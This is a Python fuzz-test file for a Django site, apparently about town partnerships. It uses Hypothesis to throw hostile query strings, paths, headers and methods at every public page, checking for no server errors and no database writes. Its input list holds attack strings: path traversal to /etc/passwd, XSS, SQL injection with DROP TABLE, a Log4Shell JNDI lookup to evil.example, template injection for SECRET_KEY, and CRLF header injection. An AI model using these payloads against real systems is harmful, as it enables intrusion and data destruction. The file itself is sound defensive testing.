"""Hostile input against every public page: never a server error, never a write.

The pages are found, not listed by hand: every named public URL without arguments
(the lists) and the detail page of every published record of the demo content, in
German and English. A page added later is covered without touching this file.
"""

import contextlib
from urllib.parse import quote, urlencode

import pytest
from django.apps import apps
from django.contrib.auth.mixins import AccessMixin
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import (
    LocalePrefixPattern,
    NoReverseMatch,
    URLResolver,
    get_resolver,
    resolve,
    reverse,
)
from django.urls.converters import IntConverter
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.django_db

LANGUAGES = ["de", "en"]

# Each property runs inside its test, so the demo content is loaded once for all of
# its examples; every example checks that the database is unchanged.
hypothesis_settings = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


def public_url_patterns():
    """(name, pattern) of the URLs inside i18n_patterns, e.g. "partnerships:twincity_list"."""

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = namespace
                if pattern.namespace:
                    inner = f"{namespace}{pattern.namespace}:"
                yield from walk(pattern.url_patterns, inner)
            elif pattern.name and not signs_in(pattern):
                yield namespace + pattern.name, pattern

    for pattern in get_resolver().url_patterns:
        if isinstance(pattern, URLResolver) and isinstance(pattern.pattern, LocalePrefixPattern):
            yield from walk(pattern.url_patterns, "")


def signs_in(pattern):
    """Whether the view is for signed-in staff only (the internal contacts directory)."""
    view_class = getattr(pattern.callback, "view_class", None)
    return view_class is not None and issubclass(view_class, AccessMixin)


def list_urls():
    urls = []
    for name, _pattern in public_url_patterns():
        for language in LANGUAGES:
            # A URL that needs arguments is a detail page, found through its record.
            with translation.override(language), contextlib.suppress(NoReverseMatch):
                urls.append(reverse(name))
    return urls


def numeric_url_patterns():
    """Names and argument names of the URLs whose arguments are all numbers."""
    return {
        name: sorted(converters)
        for name, pattern in public_url_patterns()
        if (converters := pattern.pattern.converters)
        and all(isinstance(converter, IntConverter) for converter in converters.values())
    }


def detail_urls():
    urls = []
    for model in apps.get_models():
        if not hasattr(model, "get_absolute_url"):
            continue
        records = model._default_manager.all()
        if hasattr(records, "published"):
            records = records.published()
        for record in records:
            for language in LANGUAGES:
                with translation.override(language):
                    urls.append(record.get_absolute_url())
    return [url for url in urls if url.startswith(tuple(f"/{code}/" for code in LANGUAGES))]


@pytest.fixture
def public_urls():
    call_command("load_demo_content", verbosity=0)
    lists, details = list_urls(), detail_urls()
    # The demo content must reach every kind of page, or this test proves little.
    assert {"/de/", "/en/", "/de/projektpartnerschaften/", "/en/twin-cities/"} <= set(lists)
    assert "/en/twin-cities/leeds/" in details
    assert any(url.startswith("/de/projektpartnerschaften/") for url in details)
    return sorted(set(lists)), sorted(set(details))


def filter_names(url):
    """The query parameters a list page filters by (its django-filter FilterSet)."""
    with translation.override(url.split("/")[1]):
        view = getattr(resolve(url).func, "view_class", None)
    filterset = getattr(view, "filterset_class", None)
    return sorted(filterset.base_filters) if filterset else []


def database_snapshot():
    """Every row of every table, read with plain SQL (no language-dependent managers)."""
    snapshot = {}
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            snapshot[table] = sorted(map(repr, cursor.fetchall()))
    return snapshot


def request(path, method="GET", **headers):
    # A fresh client and a cold page cache: each example reaches the view itself.
    cache.clear()
    return Client().generic(method, path, headers=headers)


def assert_no_server_error(response, path):
    assert response.status_code < 500, f"{response.status_code} for {path!r}"


# --- Hostile building blocks -----------------------------------------------------------

HOSTILE_TEXT = [
    "",
    " ",
    "%00",
    "\x00",
    "%",
    "%%",
    "%zz",
    "%e4",
    "%c3%28",
    "%c0%ae%c0%ae%c0%af",
    "%ff%fe",
    "%u0041",
    "..",
    "../",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f",
    "//evil.example/",
    "\\\\evil.example",
    "http://evil.example/",
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "' OR '1'='1",
    "1; DROP TABLE partnerships_city; --",
    "${jndi:ldap://evil.example/a}",
    "{{ settings.SECRET_KEY }}",
    "%0d%0aSet-Cookie:%20evil=1",
    "\r\nSet-Cookie: evil=1",
    "ü",
    "Köln",
    "😀",
    "\u202e",
    "\ufeff",
    "\U0010ffff",
    "-1",
    "0",
    "1.5",
    "1e9",
    "NaN",
    "Infinity",
    "last",
    "9" * 400,
    "x" * 5000,
]

# Text a browser or a script could put in a URL: any Unicode scalar value.
any_text = st.text(st.characters(codec="utf-8"), max_size=40)
percent_escapes = st.lists(
    st.tuples(st.sampled_from("0123456789abcdefABCDEFgz%"), st.sampled_from("0123456789afFxz")),
    min_size=1,
    max_size=6,
).map(lambda pairs: "".join(f"%{first}{second}" for first, second in pairs))
long_segment = st.integers(min_value=256, max_value=20_000).map(lambda size: "a" * size)
hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXT), any_text, percent_escapes, long_segment)

page_numbers = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["1", "2", "last", "first", "0", "-0", "+1", " 1", "1 ", "01", "0x1", "²"]),
    hostile_text,
)
FILTERS = ["topic", "country", "status"]
VALID_FILTER_VALUES = [
    *["active", "planned", "completed", "suspended", "european", "global", "member", "board"],
    *["DE", "GH", "GN", "RO", "US", "CA", "climate-protection", "climate-adaptation"],
]
filter_values = st.one_of(st.sampled_from(VALID_FILTER_VALUES), hostile_text)
query_keys = st.one_of(
    st.sampled_from(["page", *FILTERS, "q", "o", "ordering", "lang", "format", "next"]),
    any_text,
)


@st.composite
def query_strings(draw):
    """A query string as a browser, a crawler or an attacker might send it."""
    kind = draw(st.sampled_from(["filters", "pairs", "raw"]))
    if kind == "filters":
        pairs = [("page", draw(page_numbers))] if draw(st.booleans()) else []
        pairs += [(key, draw(filter_values)) for key in draw(st.lists(st.sampled_from(FILTERS)))]
        return urlencode(draw(st.permutations(pairs)))
    if kind == "pairs":
        pairs = draw(st.lists(st.tuples(query_keys, st.one_of(page_numbers, filter_values))))
        return urlencode(pairs)
    # Raw text, percent signs and separators unescaped, as a broken client sends them.
    return draw(st.one_of(hostile_text, st.text(st.sampled_from("=&;%+?#/ a1\x00ü"))))


@st.composite
def hostile_paths(draw, urls):
    """A public URL bent out of shape."""
    url = draw(st.sampled_from(urls))
    segment = draw(hostile_text)
    escaped = draw(st.booleans())
    if escaped:
        segment = quote(segment, safe="%/")
    how = draw(
        st.sampled_from(["append", "append-dir", "replace-last", "language", "double", "bare"])
    )
    if how == "append":
        return url + segment
    if how == "append-dir":
        return f"{url}{segment}/"
    if how == "replace-last":
        return url.rstrip("/").rsplit("/", 1)[0] + f"/{segment}/"
    if how == "language":
        return f"/{segment}" + url[3:]
    if how == "double":
        return url.replace("/", "//", draw(st.integers(min_value=1, max_value=3)))
    return url.rstrip("/")


# Header values as a WSGI server hands them on: Latin-1, without line breaks or NUL.
header_text = st.one_of(
    st.sampled_from(
        [text for text in HOSTILE_TEXT if max(text, default=" ") <= "\xff" and text.isprintable()]
    ),
    st.text(st.characters(max_codepoint=255, exclude_characters="\r\n\x00"), max_size=200),
    st.integers(min_value=500, max_value=5000).map(lambda size: "en," * size),
)
accept_languages = st.one_of(
    st.sampled_from(["de", "en", "fr", "*", "en-GB,en;q=0.9", "de;q=abc", "en;q=-1,de;q=2", ""]),
    header_text,
)


@st.composite
def hostile_headers(draw):
    headers = {"accept-language": draw(accept_languages)}
    optional = {
        "cookie": st.one_of(
            header_text,
            header_text.map(lambda text: f"django_language={text}"),
            header_text.map(lambda text: f"__Host-sessionid={text}; __Host-csrftoken={text}"),
        ),
        "if-none-match": header_text,
        "if-modified-since": st.one_of(
            header_text, st.sampled_from(["Sat, 29 Oct 1994 19:43:31 GMT", "-1", "0"])
        ),
        "accept-encoding": st.one_of(header_text, st.sampled_from(["gzip", "br, gzip;q=x"])),
        "accept": header_text,
        "referer": header_text,
        "user-agent": header_text,
        "range": header_text,
        "x-forwarded-for": header_text,
        "x-forwarded-proto": header_text,
        "x-forwarded-host": header_text,
        "x-requested-with": st.just("XMLHttpRequest"),
    }
    for name in draw(st.lists(st.sampled_from(sorted(optional)), unique=True)):
        headers[name] = draw(optional[name])
    return headers


# --- The properties -----------------------------------------------------------------------


def test_hostile_query_strings_never_break_a_page_or_write_anything(public_urls):
    lists, details = public_urls
    before = database_snapshot()

    @hypothesis_settings
    @given(url=st.sampled_from(lists + details), query=query_strings())
    def check(url, query):
        path = f"{url}?{query}"
        assert_no_server_error(request(path), path)
        assert database_snapshot() == before

    check()


def test_hostile_filters_and_page_numbers_on_the_lists_get_a_page_not_an_error(public_urls):
    lists, _details = public_urls
    filtered = [url for url in lists if filter_names(url)]
    assert filtered
    before = database_snapshot()

    @hypothesis_settings
    @given(url=st.sampled_from(lists + filtered * 3), page=page_numbers, data=st.data())
    def check(url, page, data):
        names = filter_names(url) or FILTERS
        filters = data.draw(st.dictionaries(st.sampled_from(names), filter_values))
        path = f"{url}?{urlencode({'page': page, **filters})}"
        response = request(path)
        assert_no_server_error(response, path)
        assert response.status_code in {200, 404}, f"{response.status_code} for {path!r}"
        assert database_snapshot() == before

    check()


def test_hostile_paths_never_break_the_site_or_write_anything(public_urls):
    lists, details = public_urls
    before = database_snapshot()

    @hypothesis_settings
    @given(path=hostile_paths(lists + details))
    def check(path):
        assert_no_server_error(request(path), path)
        assert database_snapshot() == before

    check()


def test_hostile_headers_and_methods_never_break_a_page_or_write_anything(public_urls):
    lists, details = public_urls
    before = database_snapshot()

    @hypothesis_settings
    @given(
        url=st.sampled_from(lists + details),
        method=st.sampled_from(["GET", "GET", "GET", "HEAD", "OPTIONS", "POST", "PUT", "DELETE"]),
        headers=hostile_headers(),
    )
    def check(url, method, headers):
        response = request(url, method, **headers)
        assert_no_server_error(response, f"{method} {url} {headers!r}")
        assert database_snapshot() == before

    check()


def test_any_number_in_a_numeric_address_gives_a_page_or_not_found(public_urls):
    patterns = numeric_url_patterns()
    assert patterns, "no URL with numbers, such as an SDG goal, to try"
    before = database_snapshot()
    numbers = st.one_of(st.integers(min_value=0, max_value=3000), st.integers(min_value=0))

    @hypothesis_settings
    @given(
        name=st.sampled_from(sorted(patterns)), language=st.sampled_from(LANGUAGES), data=st.data()
    )
    def check(name, language, data):
        arguments = {argument: data.draw(numbers) for argument in patterns[name]}
        with translation.override(language):
            path = reverse(name, kwargs=arguments)
        response = request(path)
        assert response.status_code in {200, 404}, f"{response.status_code} for {path!r}"
        assert database_snapshot() == before

    check()
